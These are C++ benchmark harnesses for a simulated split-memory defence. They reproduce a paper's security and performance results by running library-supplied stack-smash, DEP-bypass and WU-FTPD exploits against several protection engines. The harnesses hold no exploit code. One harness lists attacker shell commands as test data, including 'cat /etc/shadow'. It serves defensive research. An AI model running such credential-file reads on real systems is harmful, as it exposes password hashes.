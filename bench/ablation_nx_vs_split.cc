// Ablation across protection engines (DESIGN.md extra experiment):
//  1. Security: the classic injection, the mixed-page injection (Fig. 1b)
//     and the DEP-bypass chain ([4]) against every engine.
//  2. Performance: what each protection level costs on the worst-case
//     pipe-ctxsw stressor — the paper's argument for the combined
//     NX+split-mixed deployment.
//
// One security point and one performance point per engine; the kNone
// performance point doubles as the normalization baseline (identical by
// determinism to a separate baseline run).
#include <cstdio>
#include <vector>

#include "attacks/nx_bypass.h"
#include "attacks/realworld.h"
#include "runner/experiment_runner.h"
#include "workloads/workload.h"

using namespace sm;
using namespace sm::workloads;
using core::ProtectionMode;

namespace {

double eff(const WorkloadResult& r) {
  return static_cast<double>(r.sim_time != 0 ? r.sim_time : r.cycles);
}

}  // namespace

int main(int argc, char** argv) {
  const runner::RunnerOptions opts = runner::parse_runner_args(
      argc, argv, "ablation_nx_vs_split",
      "Security and worst-case performance of every protection engine "
      "(none, NX, PAGEEXEC, NX+split-mixed, split-all)");
  runner::ExperimentRunner pool(opts);

  std::vector<ProtectionMode> modes = {
      ProtectionMode::kNone, ProtectionMode::kHardwareNx,
      ProtectionMode::kPaxPageexec, ProtectionMode::kNxPlusSplitMixed,
      ProtectionMode::kSplitAll};
  if (opts.quick) {
    modes = {ProtectionMode::kNone, ProtectionMode::kHardwareNx,
             ProtectionMode::kSplitAll};
  }

  std::vector<runner::SweepPoint> points;
  for (const ProtectionMode m : modes) {
    points.push_back({runner::strf("security/%s", core::to_string(m)),
                      [m] {
      runner::PointResult res;
      const auto classic = attacks::realworld::run_attack(
          attacks::realworld::Exploit::kBindTsig, m);
      const auto bypass = attacks::run_nx_bypass(m);
      res.text = runner::strf("%-18s %-22s %-22s\n", core::to_string(m),
                              classic.shell_spawned ? "COMPROMISED"
                                                    : "foiled",
                              bypass.shell_spawned ? "COMPROMISED"
                                                   : "foiled");
      res.add("classic_compromised", classic.shell_spawned);
      res.add("bypass_compromised", bypass.shell_spawned);
      return res;
    }});
  }
  const std::size_t first_perf = points.size();
  for (const ProtectionMode m : modes) {
    points.push_back({runner::strf("perf/%s", core::to_string(m)), [m] {
      runner::PointResult res;
      Protection prot;
      prot.mode = m;
      const auto r = run_unixbench(UnixBench::kPipeContextSwitch, prot);
      res.add("eff", eff(r));
      return res;
    }});
  }

  const runner::ResultTable table = pool.run(points);

  std::printf("Security ablation (attack outcome per engine)\n\n");
  std::printf("%-18s %-22s %-22s\n", "engine", "stack smash (bind)",
              "DEP bypass (mmap WX)");
  table.print(stdout);
  std::printf(
      "\n(the execute-disable bit stops the classic smash but not the\n"
      " mmap-RWX bypass; split memory stops both — paper SS2 motivation)\n");

  std::printf("\nPerformance ablation (pipe-ctxsw, normalized)\n\n");
  // modes[0] is kNone: its run IS the unprotected baseline.
  const double base_eff = metric(table[first_perf], "eff");
  for (std::size_t i = 0; i < modes.size(); ++i) {
    const double p_eff = metric(table[first_perf + i], "eff");
    std::printf("%-18s %10.3f\n", core::to_string(modes[i]),
                p_eff == 0 ? 0.0 : base_eff / p_eff);
  }
  std::printf(
      "\n(nx+split-mixed keeps worst-case performance near the NX level\n"
      " because this workload has no mixed pages to split — paper SS4.2.1)\n");
  pool.report(table);
  return 0;
}
