// Ablation across protection engines (DESIGN.md extra experiment):
//  1. Security: the classic injection, the mixed-page injection (Fig. 1b)
//     and the DEP-bypass chain ([4]) against every engine.
//  2. Performance: what each protection level costs on the worst-case
//     pipe-ctxsw stressor — the paper's argument for the combined
//     NX+split-mixed deployment.
#include <cstdio>

#include "attacks/nx_bypass.h"
#include "attacks/realworld.h"
#include "workloads/workload.h"

using namespace sm;
using namespace sm::workloads;
using core::ProtectionMode;

int main() {
  const ProtectionMode modes[] = {
      ProtectionMode::kNone, ProtectionMode::kHardwareNx,
      ProtectionMode::kPaxPageexec, ProtectionMode::kNxPlusSplitMixed,
      ProtectionMode::kSplitAll};

  std::printf("Security ablation (attack outcome per engine)\n\n");
  std::printf("%-18s %-22s %-22s\n", "engine", "stack smash (bind)",
              "DEP bypass (mmap WX)");
  for (const ProtectionMode m : modes) {
    const auto classic =
        attacks::realworld::run_attack(attacks::realworld::Exploit::kBindTsig,
                                       m);
    const auto bypass = attacks::run_nx_bypass(m);
    std::printf("%-18s %-22s %-22s\n", core::to_string(m),
                classic.shell_spawned ? "COMPROMISED" : "foiled",
                bypass.shell_spawned ? "COMPROMISED" : "foiled");
  }
  std::printf(
      "\n(the execute-disable bit stops the classic smash but not the\n"
      " mmap-RWX bypass; split memory stops both — paper SS2 motivation)\n");

  std::printf("\nPerformance ablation (pipe-ctxsw, normalized)\n\n");
  const auto base =
      run_unixbench(UnixBench::kPipeContextSwitch, Protection::none());
  for (const ProtectionMode m : modes) {
    Protection prot;
    prot.mode = m;
    const auto r = run_unixbench(UnixBench::kPipeContextSwitch, prot);
    std::printf("%-18s %10.3f\n", core::to_string(m), normalized(base, r));
  }
  std::printf(
      "\n(nx+split-mixed keeps worst-case performance near the NX level\n"
      " because this workload has no mixed pages to split — paper SS4.2.1)\n");
  return 0;
}
