// Portability & mechanism ablation (paper §4.2.4 side note and §4.7):
//
//  1. I-TLB load method on x86: the shipped single-step protocol vs the
//     abandoned "add a ret to the page and call it" experiment, which pays
//     an instruction-cache coherency flush and "actually decreased the
//     system's efficiency".
//  2. Architecture style: x86 (hardware-walked TLBs, split loads via page
//     faults + debug interrupts) vs a SPARC-style software-managed TLB
//     where the OS loads the TLBs directly — the paper's prediction that
//     the overhead "would be noticeably lower" on such machines.
//
// Every workload run is its own sweep point; rows normalize from the
// collected values in a fixed order.
#include <cstdio>
#include <string>
#include <vector>

#include "runner/experiment_runner.h"
#include "workloads/workload.h"

using namespace sm;
using namespace sm::workloads;

namespace {

double eff(const WorkloadResult& r) {
  return static_cast<double>(r.sim_time != 0 ? r.sim_time : r.cycles);
}

}  // namespace

int main(int argc, char** argv) {
  const runner::RunnerOptions opts = runner::parse_runner_args(
      argc, argv, "ablation_portability",
      "I-TLB load method (single-step vs ret-call) and architecture style "
      "(x86 vs software-managed TLBs)");
  runner::ExperimentRunner pool(opts);

  std::vector<runner::SweepPoint> points;
  auto add_point = [&](const std::string& label,
                       std::function<WorkloadResult()> run) {
    points.push_back({label, [run = std::move(run)] {
      runner::PointResult res;
      res.add("eff", eff(run()));
      return res;
    }});
  };

  // Section 1: I-TLB load method, pipe-ctxsw stressor. Indices 0-2.
  add_point("itlb/base", [] {
    return run_unixbench(UnixBench::kPipeContextSwitch, Protection::none());
  });
  add_point("itlb/single-step", [] {
    return run_unixbench(UnixBench::kPipeContextSwitch,
                         Protection::split_all());
  });
  add_point("itlb/ret-call", [] {
    Protection retcall = Protection::split_all();
    retcall.itlb_method = core::ItlbLoadMethod::kRetCall;
    return run_unixbench(UnixBench::kPipeContextSwitch, retcall);
  });

  // Section 2: architecture style. Four runs per row (x86 base/split,
  // soft-TLB base/split); quick mode keeps only the pipe-ctxsw row.
  struct RowSpec {
    const char* name;
    std::function<WorkloadResult(const Protection&)> run;
  };
  std::vector<RowSpec> rows;
  if (!opts.quick) {
    rows.push_back({"gzip",
                    [](const Protection& p) { return run_gzip(p, 128); }});
  }
  rows.push_back({"pipe-ctxsw", [](const Protection& p) {
    return run_unixbench(UnixBench::kPipeContextSwitch, p);
  }});
  if (!opts.quick) {
    rows.push_back({"apache-1KB", [](const Protection& p) {
      WebserverConfig cfg;
      cfg.response_bytes = 1024;
      return run_webserver(p, cfg).base;
    }});
  }
  const std::size_t first_row = points.size();
  for (const RowSpec& row : rows) {
    add_point(row.name + std::string("/base"),
              [&row] { return row.run(Protection::none()); });
    add_point(row.name + std::string("/split"),
              [&row] { return row.run(Protection::split_all()); });
    add_point(row.name + std::string("/soft-base"), [&row] {
      return row.run(Protection::none().with_software_tlb());
    });
    add_point(row.name + std::string("/soft-split"), [&row] {
      return row.run(Protection::split_all().with_software_tlb());
    });
  }

  const runner::ResultTable table = pool.run(points);

  std::printf("Ablation: I-TLB load method (x86), pipe-ctxsw stressor\n\n");
  const double itlb_base = metric(table[0], "eff");
  auto norm = [](double b, double p) { return p == 0 ? 0.0 : b / p; };
  std::printf("%-28s %10.3f\n", "single-step (shipped)",
              norm(itlb_base, metric(table[1], "eff")));
  std::printf("%-28s %10.3f\n", "ret-call (abandoned)",
              norm(itlb_base, metric(table[2], "eff")));
  std::printf("\n(the ret-call variant is slower, matching the paper's "
              "SS4.2.4 finding)\n");

  std::printf("\nAblation: architecture style (paper SS4.7)\n\n");
  std::printf("%-14s %16s %16s\n", "workload", "x86 normalized",
              "soft-TLB normalized");
  for (std::size_t i = 0; i < rows.size(); ++i) {
    const std::size_t p = first_row + i * 4;
    std::printf("%-14s %16.3f %16.3f\n", rows[i].name,
                norm(metric(table[p], "eff"), metric(table[p + 1], "eff")),
                norm(metric(table[p + 2], "eff"),
                     metric(table[p + 3], "eff")));
  }
  std::printf(
      "\n(on the software-TLB machine the split loads are single cheap\n"
      " traps — the paper's SS4.7 claim that overhead would be noticeably\n"
      " lower on SPARC-style architectures)\n");
  pool.report(table);
  return 0;
}
