// Portability & mechanism ablation (paper §4.2.4 side note and §4.7):
//
//  1. I-TLB load method on x86: the shipped single-step protocol vs the
//     abandoned "add a ret to the page and call it" experiment, which pays
//     an instruction-cache coherency flush and "actually decreased the
//     system's efficiency".
//  2. Architecture style: x86 (hardware-walked TLBs, split loads via page
//     faults + debug interrupts) vs a SPARC-style software-managed TLB
//     where the OS loads the TLBs directly — the paper's prediction that
//     the overhead "would be noticeably lower" on such machines.
#include <cstdio>

#include "workloads/workload.h"

using namespace sm;
using namespace sm::workloads;

int main() {
  std::printf("Ablation: I-TLB load method (x86), pipe-ctxsw stressor\n\n");
  {
    const auto base =
        run_unixbench(UnixBench::kPipeContextSwitch, Protection::none());
    Protection single = Protection::split_all();
    Protection retcall = Protection::split_all();
    retcall.itlb_method = core::ItlbLoadMethod::kRetCall;
    const auto r_single =
        run_unixbench(UnixBench::kPipeContextSwitch, single);
    const auto r_retcall =
        run_unixbench(UnixBench::kPipeContextSwitch, retcall);
    std::printf("%-28s %10.3f\n", "single-step (shipped)",
                normalized(base, r_single));
    std::printf("%-28s %10.3f\n", "ret-call (abandoned)",
                normalized(base, r_retcall));
    std::printf("\n(the ret-call variant is slower, matching the paper's "
                "SS4.2.4 finding)\n");
  }

  std::printf("\nAblation: architecture style (paper SS4.7)\n\n");
  std::printf("%-14s %16s %16s\n", "workload", "x86 normalized",
              "soft-TLB normalized");
  struct Row {
    const char* name;
    double x86;
    double sparc;
  };
  auto print_row = [](const char* name, double x86, double sparc) {
    std::printf("%-14s %16.3f %16.3f\n", name, x86, sparc);
  };
  {
    const auto b = run_gzip(Protection::none(), 128);
    const auto p = run_gzip(Protection::split_all(), 128);
    const auto sb = run_gzip(Protection::none().with_software_tlb(), 128);
    const auto sp =
        run_gzip(Protection::split_all().with_software_tlb(), 128);
    print_row("gzip", normalized(b, p), normalized(sb, sp));
  }
  {
    const auto b =
        run_unixbench(UnixBench::kPipeContextSwitch, Protection::none());
    const auto p = run_unixbench(UnixBench::kPipeContextSwitch,
                                 Protection::split_all());
    const auto sb = run_unixbench(UnixBench::kPipeContextSwitch,
                                  Protection::none().with_software_tlb());
    const auto sp =
        run_unixbench(UnixBench::kPipeContextSwitch,
                      Protection::split_all().with_software_tlb());
    print_row("pipe-ctxsw", normalized(b, p), normalized(sb, sp));
  }
  {
    WebserverConfig cfg;
    cfg.response_bytes = 1024;
    const auto b = run_webserver(Protection::none(), cfg);
    const auto p = run_webserver(Protection::split_all(), cfg);
    const auto sb =
        run_webserver(Protection::none().with_software_tlb(), cfg);
    const auto sp =
        run_webserver(Protection::split_all().with_software_tlb(), cfg);
    print_row("apache-1KB", normalized(b.base, p.base),
              normalized(sb.base, sp.base));
  }
  std::printf(
      "\n(on the software-TLB machine the split loads are single cheap\n"
      " traps — the paper's SS4.7 claim that overhead would be noticeably\n"
      " lower on SPARC-style architectures)\n");
  return 0;
}
