// TLB-geometry sensitivity ablation (DESIGN.md design-choice ablation):
// the stand-alone overhead is driven by TLB misses-turned-page-faults, so
// it should shrink as the TLBs grow (fewer capacity misses) but never
// vanish (context switches still flush). The gzip workload exercises
// capacity misses; pipe-ctxsw exercises flushes.
//
// Each (geometry, workload, protection) run is one sweep point; the table
// normalizes the collected values row by row.
#include <cstdio>
#include <vector>

#include "runner/experiment_runner.h"
#include "workloads/internal.h"
#include "workloads/workload.h"

using namespace sm;
using namespace sm::workloads;

namespace {

// A streaming page-walker (capacity-miss bound, gzip-like) and a
// yield-heavy pair (flush bound, pipe-ctxsw-like), both run through the
// internal runner so the TLB geometry can be set.
const char* kWalker = R"(
_start:
  movi r3, 3
pass:
  movi r4, buf
  movi r5, 120
touch:
  load r2, [r4]
  addi r4, 4096
  addi r5, -1
  cmpi r5, 0
  jnz touch
  addi r3, -1
  cmpi r3, 0
  jnz pass
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.bss
buf: .space 491520
)";

const char* kFlushy = R"(
_start:
  movi r0, SYS_FORK
  syscall
  cmpi r0, 0
  jz child
  movi r5, 300
ploop:
  movi r0, SYS_YIELD
  syscall
  movi r4, buf
  load r2, [r4]
  load r2, [r4+4096]
  load r2, [r4+8192]
  addi r5, -1
  cmpi r5, 0
  jnz ploop
  mov r1, r0
  movi r0, SYS_WAITPID
  syscall
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
child:
  movi r5, 300
cloop:
  movi r0, SYS_YIELD
  syscall
  movi r4, buf
  load r2, [r4]
  load r2, [r4+4096]
  load r2, [r4+8192]
  addi r5, -1
  cmpi r5, 0
  jnz cloop
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.bss
buf: .space 16384
)";

double eff(const WorkloadResult& r) {
  return static_cast<double>(r.sim_time != 0 ? r.sim_time : r.cycles);
}

}  // namespace

int main(int argc, char** argv) {
  const runner::RunnerOptions opts = runner::parse_runner_args(
      argc, argv, "ablation_tlb_geometry",
      "Stand-alone split overhead vs TLB capacity (capacity-bound vs "
      "flush-bound workloads, 16..256 entries)");
  runner::ExperimentRunner pool(opts);

  std::vector<arch::u32> geometries = {16u, 32u, 64u, 128u, 256u};
  if (opts.quick) geometries = {16u, 64u};

  // Four points per geometry: walker base/split, flushy base/split.
  std::vector<runner::SweepPoint> points;
  for (const arch::u32 entries : geometries) {
    const struct {
      const char* name;
      const char* program;
      bool split;
    } cases[] = {
        {"walker", kWalker, false},
        {"walker", kWalker, true},
        {"flushy", kFlushy, false},
        {"flushy", kFlushy, true},
    };
    for (const auto& c : cases) {
      points.push_back(
          {runner::strf("%s/%u/%s", c.name, entries,
                        c.split ? "split" : "base"),
           [entries, c] {
             runner::PointResult res;
             kernel::KernelConfig cfg;
             cfg.tlb_entries = entries;
             cfg.tlb_ways = 4;
             const auto r = internal::run_program(
                 c.name, c.program,
                 c.split ? Protection::split_all() : Protection::none(),
                 cfg);
             res.add("eff", eff(r));
             return res;
           }});
    }
  }

  const runner::ResultTable table = pool.run(points);
  std::printf("Ablation: stand-alone split overhead vs TLB capacity\n\n");
  std::printf("%-12s %14s %14s\n", "TLB entries", "streaming",
              "ctxsw-bound");
  auto norm = [](double b, double p) { return p == 0 ? 0.0 : b / p; };
  for (std::size_t g = 0; g < geometries.size(); ++g) {
    const std::size_t p = g * 4;
    const double gzip_like =
        norm(metric(table[p], "eff"), metric(table[p + 1], "eff"));
    const double ctxsw_like =
        norm(metric(table[p + 2], "eff"), metric(table[p + 3], "eff"));
    std::printf("%12u %14.3f %14.3f\n", geometries[g], gzip_like,
                ctxsw_like);
  }
  std::printf(
      "\n(capacity-driven overhead shrinks as the TLB grows; flush-driven\n"
      " overhead from context switches persists at any size — the paper's\n"
      " two overhead sources, SS4.6, separated)\n");

  if (opts.trace_summary) {
    // Serial traced re-runs at the smallest geometry: the walker's reloads
    // should classify as capacity evictions, the flushy pair's as
    // context-switch flushes.
    const struct {
      const char* name;
      const char* program;
    } tcases[] = {{"walker", kWalker}, {"flushy", kFlushy}};
    for (const auto& c : tcases) {
      kernel::KernelConfig tcfg;
      tcfg.tlb_entries = geometries.front();
      tcfg.tlb_ways = 4;
      const auto r = internal::run_program(
          c.name, c.program, Protection::split_all().with_trace(), tcfg);
      if (!r.trace_summary) {
        std::printf(
            "\n(--trace-summary: tracing compiled out, SM_TRACE=OFF)\n");
        break;
      }
      std::printf("\n--- %s/%u/split: cycle attribution ---\n%s", c.name,
                  geometries.front(),
                  trace::format_summary(*r.trace_summary).c_str());
    }
  }

  pool.report(table);
  return 0;
}
