// TLB-geometry sensitivity ablation (DESIGN.md design-choice ablation):
// the stand-alone overhead is driven by TLB misses-turned-page-faults, so
// it should shrink as the TLBs grow (fewer capacity misses) but never
// vanish (context switches still flush). The gzip workload exercises
// capacity misses; pipe-ctxsw exercises flushes.
#include <cstdio>

#include "workloads/internal.h"
#include "workloads/workload.h"

using namespace sm;
using namespace sm::workloads;

int main() {
  std::printf("Ablation: stand-alone split overhead vs TLB capacity\n\n");
  std::printf("%-12s %14s %14s\n", "TLB entries", "streaming",
              "ctxsw-bound");

  for (const arch::u32 entries : {16u, 32u, 64u, 128u, 256u}) {
    kernel::KernelConfig cfg;
    cfg.tlb_entries = entries;
    cfg.tlb_ways = 4;

    // A streaming page-walker (capacity-miss bound, gzip-like) and a
    // yield-heavy pair (flush bound, pipe-ctxsw-like), both run through
    // the internal runner so the TLB geometry can be set.
    const char* kWalker = R"(
_start:
  movi r3, 3
pass:
  movi r4, buf
  movi r5, 120
touch:
  load r2, [r4]
  addi r4, 4096
  addi r5, -1
  cmpi r5, 0
  jnz touch
  addi r3, -1
  cmpi r3, 0
  jnz pass
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.bss
buf: .space 491520
)";
    const auto base = internal::run_program("walker", kWalker,
                                            Protection::none(), cfg);
    const auto split = internal::run_program("walker", kWalker,
                                             Protection::split_all(), cfg);
    const double gzip_like = normalized(base, split);

    const char* kFlushy = R"(
_start:
  movi r0, SYS_FORK
  syscall
  cmpi r0, 0
  jz child
  movi r5, 300
ploop:
  movi r0, SYS_YIELD
  syscall
  movi r4, buf
  load r2, [r4]
  load r2, [r4+4096]
  load r2, [r4+8192]
  addi r5, -1
  cmpi r5, 0
  jnz ploop
  mov r1, r0
  movi r0, SYS_WAITPID
  syscall
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
child:
  movi r5, 300
cloop:
  movi r0, SYS_YIELD
  syscall
  movi r4, buf
  load r2, [r4]
  load r2, [r4+4096]
  load r2, [r4+8192]
  addi r5, -1
  cmpi r5, 0
  jnz cloop
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.bss
buf: .space 16384
)";
    const auto fbase = internal::run_program("flushy", kFlushy,
                                             Protection::none(), cfg);
    const auto fsplit = internal::run_program("flushy", kFlushy,
                                              Protection::split_all(), cfg);
    const double ctxsw_like = normalized(fbase, fsplit);

    std::printf("%12u %14.3f %14.3f\n", entries, gzip_like, ctxsw_like);
  }
  std::printf(
      "\n(capacity-driven overhead shrinks as the TLB grows; flush-driven\n"
      " overhead from context switches persists at any size — the paper's\n"
      " two overhead sources, SS4.6, separated)\n");
  return 0;
}
