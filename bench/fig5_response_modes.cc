// Reproduces paper Fig. 5: the WU-FTPD exploit (7350wurm) run under the
// three response modes:
//   (a) break mode      — the exploit fails, no shell
//   (b) observe mode    — the attack is logged and allowed to continue; the
//                         attacker gets a working (monitored) shell
//   (c) forensics mode  — the first shellcode bytes are dumped (NOP sled
//                         visible), and the paper's exit(0) forensic
//                         shellcode demo runs the process to a clean exit
//   (d) Sebek log       — the commands typed into the observe-mode shell
//
// Each mode is one sweep point on the experiment-runner pool; output is
// assembled in point order, so it is byte-identical for any --jobs.
#include <cstdio>
#include <vector>

#include "attacks/realworld.h"
#include "attacks/shellcode.h"
#include "runner/experiment_runner.h"

using namespace sm;
using namespace sm::attacks::realworld;

int main(int argc, char** argv) {
  const runner::RunnerOptions opts = runner::parse_runner_args(
      argc, argv, "fig5_response_modes",
      "Fig. 5: WU-FTPD exploit under break/observe/forensics response modes");
  runner::ExperimentRunner pool(opts);

  std::vector<runner::SweepPoint> points;
  points.push_back({"break", [] {
    runner::PointResult res;
    AttackOptions o;
    o.response = core::ResponseMode::kBreak;
    const AttackResult r =
        run_attack(Exploit::kWuFtpd, core::ProtectionMode::kSplitAll, o);
    res.text = "=== (a) break mode ===\n";
    res.text += runner::strf("detected=%d shell=%d -> %s\n", r.detected,
                             r.shell_spawned, r.detail.c_str());
    res.add("ok", r.detected && !r.shell_spawned);
    return res;
  }});
  points.push_back({"observe", [] {
    runner::PointResult res;
    AttackOptions o;
    o.response = core::ResponseMode::kObserve;
    o.attach_sebek = true;
    o.shell_commands = {"id", "uname -a", "cat /etc/shadow"};
    const AttackResult r =
        run_attack(Exploit::kWuFtpd, core::ProtectionMode::kSplitAll, o);
    res.text = "\n=== (b) observe mode ===\n";
    res.text += runner::strf("detected=%d shell=%d -> %s\n", r.detected,
                             r.shell_spawned, r.detail.c_str());
    res.text += runner::strf("attacker shell transcript (echoed):\n%s\n",
                             r.shell_transcript.c_str());
    res.text += runner::strf("=== (d) Sebek log during observe mode ===\n%s",
                             r.sebek_log.c_str());
    res.add("ok", r.detected && r.shell_spawned &&
                      r.sebek_log.find("cat /etc/shadow") !=
                          std::string::npos);
    return res;
  }});
  points.push_back({"forensics", [] {
    runner::PointResult res;
    AttackOptions o;
    o.response = core::ResponseMode::kForensics;
    const AttackResult r =
        run_attack(Exploit::kWuFtpd, core::ProtectionMode::kSplitAll, o);
    res.text = "\n=== (c) forensics mode ===\n";
    res.text += runner::strf("detected=%d shell=%d\n", r.detected,
                             r.shell_spawned);
    res.text += runner::strf(
        "dump of the first injected shellcode bytes at EIP:\n%s\n",
        r.forensic_dump.c_str());
    res.add("ok", r.detected && !r.shell_spawned &&
                      r.forensic_dump.find("nop") != std::string::npos);
    return res;
  }});

  const runner::ResultTable table = pool.run(points);
  table.print(stdout);
  bool ok = true;
  for (const auto& rec : table.points()) ok = ok && metric(rec, "ok") != 0;
  std::printf("paper Fig. 5 behaviours: %s\n",
              ok ? "REPRODUCED" : "MISMATCH");
  pool.report(table);
  return ok ? 0 : 1;
}
