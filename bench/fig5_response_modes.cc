// Reproduces paper Fig. 5: the WU-FTPD exploit (7350wurm) run under the
// three response modes:
//   (a) break mode      — the exploit fails, no shell
//   (b) observe mode    — the attack is logged and allowed to continue; the
//                         attacker gets a working (monitored) shell
//   (c) forensics mode  — the first shellcode bytes are dumped (NOP sled
//                         visible), and the paper's exit(0) forensic
//                         shellcode demo runs the process to a clean exit
//   (d) Sebek log       — the commands typed into the observe-mode shell
#include <cstdio>

#include "attacks/realworld.h"
#include "attacks/shellcode.h"

using namespace sm;
using namespace sm::attacks::realworld;

int main() {
  bool ok = true;

  std::printf("=== (a) break mode ===\n");
  {
    AttackOptions opts;
    opts.response = core::ResponseMode::kBreak;
    const AttackResult r =
        run_attack(Exploit::kWuFtpd, core::ProtectionMode::kSplitAll, opts);
    std::printf("detected=%d shell=%d -> %s\n", r.detected, r.shell_spawned,
                r.detail.c_str());
    ok = ok && r.detected && !r.shell_spawned;
  }

  std::printf("\n=== (b) observe mode ===\n");
  {
    AttackOptions opts;
    opts.response = core::ResponseMode::kObserve;
    opts.attach_sebek = true;
    opts.shell_commands = {"id", "uname -a", "cat /etc/shadow"};
    const AttackResult r =
        run_attack(Exploit::kWuFtpd, core::ProtectionMode::kSplitAll, opts);
    std::printf("detected=%d shell=%d -> %s\n", r.detected, r.shell_spawned,
                r.detail.c_str());
    std::printf("attacker shell transcript (echoed):\n%s\n",
                r.shell_transcript.c_str());
    std::printf("=== (d) Sebek log during observe mode ===\n%s",
                r.sebek_log.c_str());
    ok = ok && r.detected && r.shell_spawned &&
         r.sebek_log.find("cat /etc/shadow") != std::string::npos;
  }

  std::printf("\n=== (c) forensics mode ===\n");
  {
    AttackOptions opts;
    opts.response = core::ResponseMode::kForensics;
    const AttackResult r =
        run_attack(Exploit::kWuFtpd, core::ProtectionMode::kSplitAll, opts);
    std::printf("detected=%d shell=%d\n", r.detected, r.shell_spawned);
    std::printf("dump of the first injected shellcode bytes at EIP:\n%s\n",
                r.forensic_dump.c_str());
    ok = ok && r.detected && !r.shell_spawned &&
         r.forensic_dump.find("nop") != std::string::npos;
  }

  std::printf("paper Fig. 5 behaviours: %s\n",
              ok ? "REPRODUCED" : "MISMATCH");
  return ok ? 0 : 1;
}
