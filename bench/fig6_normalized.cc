// Reproduces paper Fig. 6: "Normalized performance for applications and
// benchmarks" under stand-alone split memory (worst case):
//   Apache/32KB ~= 0.89, gzip ~= 0.87, nbench ~= 0.97, Unixbench ~= 0.82.
#include <cstdio>

#include "workloads/workload.h"

using namespace sm;
using namespace sm::workloads;

int main() {
  std::printf("Fig. 6: normalized performance (protected / unprotected)\n\n");
  std::printf("%-16s %12s %12s %10s %10s\n", "benchmark", "base cycles",
              "split cycles", "normalized", "paper");

  const Protection none = Protection::none();
  const Protection split = Protection::split_all();

  {
    WebserverConfig cfg;
    cfg.response_bytes = 32 * 1024;
    const auto b = run_webserver(none, cfg);
    const auto p = run_webserver(split, cfg);
    std::printf("%-16s %12llu %12llu %10.3f %10s\n", "apache-32KB",
                static_cast<unsigned long long>(b.base.cycles),
                static_cast<unsigned long long>(p.base.cycles),
                normalized(b.base, p.base), "~0.89");
  }
  {
    const auto b = run_gzip(none);
    const auto p = run_gzip(split);
    std::printf("%-16s %12llu %12llu %10.3f %10s\n", "gzip",
                static_cast<unsigned long long>(b.cycles),
                static_cast<unsigned long long>(p.cycles), normalized(b, p),
                "~0.87");
  }
  {
    const auto b = run_nbench(none);
    const auto p = run_nbench(split);
    std::printf("%-16s %12llu %12llu %10.3f %10s\n", "nbench",
                static_cast<unsigned long long>(b.cycles),
                static_cast<unsigned long long>(p.cycles), normalized(b, p),
                "~0.97");
  }
  {
    const double idx = unixbench_index(split);
    std::printf("%-16s %12s %12s %10.3f %10s\n", "unixbench", "-", "-", idx,
                "~0.82");
    std::printf("\nunixbench per-test detail:\n");
    for (const UnixBench ub : kAllUnixBench) {
      const auto b = run_unixbench(ub, none);
      const auto p = run_unixbench(ub, split);
      std::printf("  %-20s %10.3f\n", to_string(ub), normalized(b, p));
    }
  }
  return 0;
}
