// Reproduces paper Fig. 6: "Normalized performance for applications and
// benchmarks" under stand-alone split memory (worst case):
//   Apache/32KB ~= 0.89, gzip ~= 0.87, nbench ~= 0.97, Unixbench ~= 0.82.
//
// Each benchmark (and each unixbench sub-test) is one sweep point running
// its own base+split pair; the Unixbench index is the geometric mean of
// the per-test points, exactly what workloads::unixbench_index computes.
#include <cmath>
#include <cstdio>
#include <vector>

#include "runner/experiment_runner.h"
#include "workloads/workload.h"

using namespace sm;
using namespace sm::workloads;

namespace {

// Effective simulated time: what normalized() compares.
double eff(const WorkloadResult& r) {
  return static_cast<double>(r.sim_time != 0 ? r.sim_time : r.cycles);
}

}  // namespace

int main(int argc, char** argv) {
  const runner::RunnerOptions opts = runner::parse_runner_args(
      argc, argv, "fig6_normalized",
      "Fig. 6: normalized performance (protected / unprotected) for "
      "apache-32KB, gzip, nbench and the unixbench suite");
  runner::ExperimentRunner pool(opts);

  const Protection none = Protection::none();
  const Protection split = Protection::split_all();

  std::vector<runner::SweepPoint> points;
  points.push_back({"apache-32KB", [&] {
    runner::PointResult res;
    WebserverConfig cfg;
    cfg.response_bytes = 32 * 1024;
    const auto b = run_webserver(none, cfg);
    const auto p = run_webserver(split, cfg);
    res.text = runner::strf("%-16s %12llu %12llu %10.3f %10s\n",
                            "apache-32KB",
                            static_cast<unsigned long long>(b.base.cycles),
                            static_cast<unsigned long long>(p.base.cycles),
                            normalized(b.base, p.base), "~0.89");
    res.add("normalized", normalized(b.base, p.base));
    res.add("base_cycles", static_cast<double>(b.base.cycles));
    res.add("split_cycles", static_cast<double>(p.base.cycles));
    return res;
  }});
  points.push_back({"gzip", [&] {
    runner::PointResult res;
    const auto b = run_gzip(none);
    const auto p = run_gzip(split);
    res.text = runner::strf("%-16s %12llu %12llu %10.3f %10s\n", "gzip",
                            static_cast<unsigned long long>(b.cycles),
                            static_cast<unsigned long long>(p.cycles),
                            normalized(b, p), "~0.87");
    res.add("normalized", normalized(b, p));
    res.add("base_cycles", static_cast<double>(b.cycles));
    res.add("split_cycles", static_cast<double>(p.cycles));
    return res;
  }});
  points.push_back({"nbench", [&] {
    runner::PointResult res;
    const auto b = run_nbench(none);
    const auto p = run_nbench(split);
    res.text = runner::strf("%-16s %12llu %12llu %10.3f %10s\n", "nbench",
                            static_cast<unsigned long long>(b.cycles),
                            static_cast<unsigned long long>(p.cycles),
                            normalized(b, p), "~0.97");
    res.add("normalized", normalized(b, p));
    res.add("base_cycles", static_cast<double>(b.cycles));
    res.add("split_cycles", static_cast<double>(p.cycles));
    return res;
  }});

  // One point per unixbench sub-test; quick mode keeps a representative
  // trio (compute-, pipe- and ctxsw-bound).
  std::vector<UnixBench> suite;
  if (opts.quick) {
    suite = {UnixBench::kSyscall, UnixBench::kPipeThroughput,
             UnixBench::kPipeContextSwitch};
  } else {
    suite.assign(std::begin(kAllUnixBench), std::end(kAllUnixBench));
  }
  const std::size_t first_ub = points.size();
  for (const UnixBench ub : suite) {
    points.push_back({runner::strf("unixbench/%s", to_string(ub)), [&, ub] {
      runner::PointResult res;
      const auto b = run_unixbench(ub, none);
      const auto p = run_unixbench(ub, split);
      res.add("normalized", normalized(b, p));
      res.add("base_eff", eff(b));
      res.add("split_eff", eff(p));
      return res;
    }});
  }

  const runner::ResultTable table = pool.run(points);

  std::printf("Fig. 6: normalized performance (protected / unprotected)\n\n");
